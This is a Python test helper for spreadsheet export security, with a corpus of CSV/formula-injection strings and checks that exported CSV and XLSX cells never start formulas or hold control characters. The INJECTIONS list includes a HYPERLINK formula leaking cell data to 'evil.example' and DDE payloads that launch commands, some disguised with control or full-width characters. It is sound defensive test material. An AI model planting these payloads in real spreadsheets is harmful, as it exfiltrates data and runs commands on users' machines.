"""The spreadsheet injection corpus and the read-back checks every export test uses.

The checks are written from the rule (docs/security.md, "Exports"), not by calling the cell
writer under test: a CSV cell may not start a formula unless it is a plain number; an XLSX
cell is never a formula; no cell holds a control character.
"""

import csv
import io
import re
import unicodedata

from openpyxl import load_workbook

# Text a spreadsheet would run (or start running) as a formula, some behind a control
# character or a compatibility form of the sign.
INJECTIONS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "+33 1 23",
    "@acme=1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '\x01=HYPERLINK("http://evil.example","x")',
    "\x00=1+1",
    "\x1b=1+1",
    "\x7f=1+1",
    "\x85@SUM(1)",
    "\x0b-1+1",
    " =1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "=1+1\n=2+2",
]
# Values that must come out as they went in (in XLSX always; in CSV too unless noted).
ORDINARY = [
    "+254712345678",
    "-12.5",
    "Ñandú Ltd",
    "شركة النيل للتجارة",
    "北京贸易有限公司",
    "Smith & O'Brien (Pty) Ltd",
    "Total = 3, minus - 2",
    "line one\nline two",
]
# Ordinary in XLSX; in CSV they get the apostrophe, as a spreadsheet would run "@…".
AT_NAMES = ["@acme", "@Kofi Mensah"]

_CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?")


def without_controls(text: str) -> str:
    return _CONTROL.sub("", text)


def starts_formula(text: str) -> bool:
    """Whether a spreadsheet opening this CSV text would evaluate it."""
    if not text:
        return False
    if text[0] in "\t\r\n":
        return True
    first = unicodedata.normalize("NFKC", text.lstrip()[:1])[:1]
    return first != "" and first in "=+-@" and not _PLAIN_NUMBER.fullmatch(text)


def csv_cells(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf"), "UTF-8 byte-order mark"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def assert_csv_safe(rows: list[list[str]]) -> None:
    for row in rows:
        for text in row:
            assert not starts_formula(text), text
            assert not _CONTROL.search(text), text


def xlsx_sheet(content: bytes):
    return load_workbook(io.BytesIO(content)).active


def assert_xlsx_safe(sheet) -> None:
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value
            if isinstance(cell.value, str):
                assert not _CONTROL.search(cell.value), cell.value
                # Text that a spreadsheet would run is a string cell kept text on editing.
                if starts_formula(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, cell.value


def csv_expected(value: str) -> str:
    """What an injected value becomes in CSV: cleaned, then quoted with an apostrophe."""
    return "'" + without_controls(value)


def xlsx_expected(value: str) -> str:
    """What any text becomes in XLSX: cleaned, nothing added."""
    return without_controls(value)
